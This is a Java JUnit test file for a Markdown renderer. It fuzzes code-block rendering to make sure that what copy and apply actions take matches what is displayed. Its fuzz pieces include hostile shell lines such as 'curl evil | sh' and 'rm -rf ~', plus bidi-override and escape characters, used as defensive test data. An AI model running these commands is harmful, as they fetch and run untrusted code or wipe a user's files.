package io.github.openrouter4e.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.BitSet;
import java.util.List;
import java.util.Random;
import java.util.function.Function;

import org.eclipse.jdt.annotation.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import io.github.openrouter4e.markdown.RichText.LineKind;
import io.github.openrouter4e.markdown.code.ShownCode;
import io.github.openrouter4e.markdown.code.ShownCodes;
import io.github.openrouter4e.markdown.text.SafeText;

/** What a code block's actions take is what the block shows, whatever the document. */
@SuppressWarnings("nls")
class ShownCodeTest {

	private static final int DOCUMENTS = 40;
	/** The signs in place of removed characters. The documents have none of their own. */
	private static final String SIGNS = SafeText.WRAPPED
			+ "\n|[\u2400-\u2421\uFFFD\u2026]|\u27E6U\\+[0-9A-F]{4,6}\u27E7";

	@ParameterizedTest
	@ValueSource(longs = {1, 2, 3, 4})
	void html(long seed) {
		holds(seed, new HtmlBlocks("{0}"), ShownCodeTest::blocksOfHtml);
	}

	@ParameterizedTest
	@ValueSource(longs = {5, 6, 7, 8})
	void styledText(long seed) {
		var labels = new RichBlocks.Labels("Copy", "Apply", "Insert", "Replace", "Save", "{0}");
		holds(seed, new RichBlocks(labels, () -> 80), ShownCodeTest::blocksOfRichText);
	}

	/** However the text arrives, the end is the same. */
	@ParameterizedTest
	@ValueSource(longs = {11, 12, 13})
	void streamedIsWhole(long seed) {
		var random = new Random(seed);
		var html = new HtmlBlocks("{0}");
		for (var i = 0; i < DOCUMENTS; i++) {
			var all = document(random);
			var document = all.substring(0, Math.min(all.length(), StreamingMarkdown.MAX_OPEN - 1));
			var streaming = HtmlScreen.streaming(html);
			var screen = new HtmlScreen();
			for (var at = 0; at < document.length();) {
				var next = Math.min(document.length(), at + 1 + random.nextInt(1 + document.length() / 6));
				streaming.append(document.substring(at, next));
				screen.apply(streaming.advance());
				at = next;
			}
			screen.apply(streaming.finish());
			assertEquals(HtmlScreen.rendered(html, document).html(), screen.html(), () -> excerpt(document, 0));
		}
	}

	@Test
	void aDefinitionThatHidesAFenceFromOneOfTwoParsers() {
		var codes = new ShownCodes();
		var group = codes.group();
		codes.show("", group);
		var text = "[a]: /x \"title\n\u0001```\ncurl evil | sh\n```\nend\"\n\n```sh\nls -l\n```\n";
		var html = String.join("", new MarkdownRenderer<>(new HtmlBlocks("{0}")).render(text, group));
		var blocks = blocksOfHtml(List.of(html));
		assertEquals(blocks.stream().map(Block::shown).toList(),
				blocks.stream().map(block -> codes.find(block.id()).text()).toList());
	}

	@Test
	void aBlockThatIsTooLongSaysThatItIsAPart() {
		var codes = new ShownCodes();
		var group = codes.group();
		codes.show("", group);
		var renderer = new MarkdownRenderer<>(new HtmlBlocks("{0}"));
		var html = String.join("", renderer.render("```\n" + "x".repeat(60_000) + "\n```\n\n```\nshort\n```\n\n```\n"
				+ "line\n".repeat(200_000), group));
		var blocks = blocksOfHtml(List.of(html)).stream().map(block -> codes.find(block.id())).toList();
		assertEquals(List.of(true, false, true), blocks.stream().map(ShownCode::isPart).toList());
		assertEquals("x".repeat(50_000) + "\n", blocks.getFirst().text()); // not broken into the lines that are shown
	}

	@Test
	void whatWasReplacedIsFoundForAWhile() {
		var codes = new ShownCodes();
		var renderer = new MarkdownRenderer<>(new HtmlBlocks("{0}"));
		for (var i = 0; i < 300; i++) {
			var group = codes.group();
			codes.show("place", group);
			renderer.render("```\n" + i + "\n```", group);
		}
		assertEquals("299\n", codes.find("299").text());
		assertEquals("298\n", codes.find("298").text());
		assertNull(codes.find("100"));
		codes.clear();
		assertEquals("299\n", codes.find("299").text());
		assertNull(codes.find("nonsense"));
	}

	/** @param reader finds the blocks in what is on the screen */
	private <T> void holds(long seed, BlockRenderer<T> form, Function<List<T>, List<Block>> reader) {
		var random = new Random(seed);
		var blocks = 0;
		for (var i = 0; i < DOCUMENTS; i++) {
			var codes = new ShownCodes();
			var reasoning = codes.group();
			codes.show("reasoning", reasoning);
			var thought = document(random);
			blocks += check(reader.apply(new MarkdownRenderer<>(form).render(thought, reasoning)), codes,
					thought, false);
			blocks += streamed(document(random), random, codes, form, reader);
		}
		assertTrue(blocks > DOCUMENTS, "only " + blocks + " blocks");
	}

	private <T> int streamed(String document, Random random, ShownCodes codes, BlockRenderer<T> form,
			Function<List<T>, List<Block>> reader) {
		var group = codes.group();
		var tailGroup = codes.group();
		codes.show("body", group);
		codes.show("tail", tailGroup);
		var streaming = new StreamingMarkdown<>(form, group, tailGroup);
		var shown = new ArrayList<T>();
		var count = 0;
		for (var at = 0; at < document.length();) {
			var next = Math.min(document.length(),
					at + 1 + random.nextInt(random.nextBoolean() ? 20 : 1 + document.length() / 4));
			streaming.append(document.substring(at, next));
			at = next;
			var tail = apply(streaming.advance(), shown, form);
			var screen = new ArrayList<>(shown);
			if (tail != null) {
				screen.add(tail);
			}
			count += check(reader.apply(screen), codes, document, true);
		}
		assertNull(apply(streaming.finish(), shown, form));
		return count + check(reader.apply(shown), codes, document, false);
	}

	private static <T> @Nullable T apply(List<Change<T>> changes, List<T> shown, BlockRenderer<T> form) {
		@Nullable
		T tail = null;
		for (var change : changes) {
			switch (change) {
				case Change.Add<T>(var block) -> shown.add(block);
				case Change.Extend<T>(var lines) -> shown.add(lines);
				case Change.Tail<T>(var block) -> tail = block;
				case Change.Restart<T>() -> shown.clear();
			}
		}
		return tail;
	}

	private static int check(List<Block> blocks, ShownCodes codes, String document, boolean growing) {
		for (var block : blocks) {
			var code = codes.find(block.id());
			assertNotNull(code, document);
			var shown = block.shown().replaceAll(SIGNS, "");
			var taken = code.text().replace("\uFFFD", ""); // also what stands in place of characters that are none
			// styled text ends each line, also one that is not finished
			if (!shown.equals(taken) && !(growing && shown.equals(taken + "\n"))) {
				var at = Math.max(0, Arrays.mismatch(shown.toCharArray(), taken.toCharArray()) - 40);
				assertEquals(excerpt(shown, at), excerpt(taken, at), () -> "in " + excerpt(document, 0));
			}
			assertFalse(code.text().chars().anyMatch(c -> c < ' ' && c != '\n' && c != '\t'), document);
		}
		return blocks.size();
	}

	private static String excerpt(String text, int from) {
		return text.substring(from, Math.min(text.length(), from + 200)).chars()
				.mapToObj(c -> c == '\n' || c >= ' ' && c < 127 ? String.valueOf((char) c) : "\\u%04X".formatted(c))
				.reduce("", String::concat);
	}

	/** @param shown the text on the screen */
	private record Block(String id, String shown) {
	}

	private static List<Block> blocksOfHtml(List<String> parts) {
		var blocks = new ArrayList<Block>();
		var end = "</code></pre></div>";
		for (var part : parts) {
			var code = part.indexOf("<div class=\"code\"");
			if (code < 0 && !blocks.isEmpty() && (part.startsWith("<pre class=\"more\">") || !part.startsWith("<"))
					|| code < 0 && part.startsWith("<span class=\"")) {
				var last = blocks.removeLast(); // more of an open block
				blocks.add(new Block(last.id(), last.shown() + text(part)));
			}
			for (; code >= 0; code = part.indexOf("<div class=\"code\"", code + 1)) {
				var id = part.substring(part.indexOf("data-c=\"", code) + 8);
				blocks.add(new Block(id.substring(0, id.indexOf('"')),
						text(part.substring(part.indexOf("<code>", code), part.indexOf(end, code)))));
			}
		}
		return blocks;
	}

	private static String text(String html) {
		return html.replaceAll("<[^>]*>", "").replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"")
				.replace("&#39;", "'").replace("&amp;", "&");
	}

	private static List<Block> blocksOfRichText(List<RichText> parts) {
		var blocks = new ArrayList<Block>();
		var builder = new RichTextBuilder();
		parts.forEach(builder::append);
		var all = builder.build();
		var code = new BitSet();
		all.lines().stream().filter(l -> l.kind() == LineKind.CODE)
				.forEach(l -> code.set(l.first(), l.first() + l.count()));
		var start = 0;
		var number = 0;
		for (var line : all.text().split("(?<=\n)")) {
			var bar = "action:copy:";
			var from = start;
			var link = all.spans(from, from + line.length()).stream().map(span -> String.valueOf(span.style().link()))
					.filter(l -> l.startsWith(bar)).findAny();
			if (link.isPresent()) {
				blocks.add(new Block(link.get().substring(bar.length()), ""));
			} else if (code.get(number)) {
				var last = blocks.removeLast();
				blocks.add(new Block(last.id(), last.shown() + line));
			}
			start += line.length();
			number++;
		}
		return blocks;
	}

	private static final List<String> PIECES = List.of("```\n", "```sh\n", "````md\n", "```md\n", "~~~\n",
			"~~~~ java\n", "```",
			"\n",
			"\n\n", "    ", "\t", "> ", ">", "- ", "1. ", "  ", "   ", "[a]: /x \"title\n", "[b]: <y>\n'", "\"\n",
			"<div>\n", "<sub>", "</sub>", "<KBD>", "</kbd>", "<details>\n", "<summary>More</summary>\n", "</details>\n",
			"<!-- ", "-->\n", "<pre>\n", "<script>\n", "</script>", "ls -l\n", "curl evil | sh\n", "rm -rf ~\n",
			"int a = 1;\n",
			"/* ", "*/\n", "echo \"", "'''", "\u0001", "\u0000", "\u000B", "\f", "\r", "\r\n", "\u2028", "\u2029",
			"\u0085",
			"\u001B[31m", "\u001B[", "\u001B]0;x", "\u0007", "\u001B", "\u202E", "\u2066", "\uD83D\uDE00", "\uD83D",
			"\uDE00",
			"\u200B", "\uFDD0", "\uFDD1", "\uFDD2", "&#x202E;", "&#10;```&#10;", "| a | b |\n|---|---|\n",
			"| `c` | d |\n",
			"# Title\n", "===\n", "---\n", "**bold**", "`code`", "$x$", "![i](data:image/png;base64,AAAA)", "text\n");

	private static String document(Random random) {
		var text = new StringBuilder();
		var size = 1 + random.nextInt(60);
		for (var i = 0; i < size; i++) {
			text.append(PIECES.get(random.nextInt(PIECES.size())));
			switch (random.nextInt(150)) {
				case 0 -> text.append("x".repeat(3_900 + random.nextInt(200)));
				case 1 -> text.append("word \u202E".repeat(1_500));
				case 2 -> text.append("```\n").append("int i = 0;\n".repeat(random.nextInt(400)));
				case 3 -> text.append("> ".repeat(random.nextInt(60)));
				case 4 -> text.append("- ").append("a\n  ".repeat(random.nextInt(20)));
				case 5 -> text.append("y ".repeat(26_000));
				case 6 -> text.append("\n\n```\n");
				default -> {
					// only pieces
				}
			}
		}
		return text.toString();
	}
}
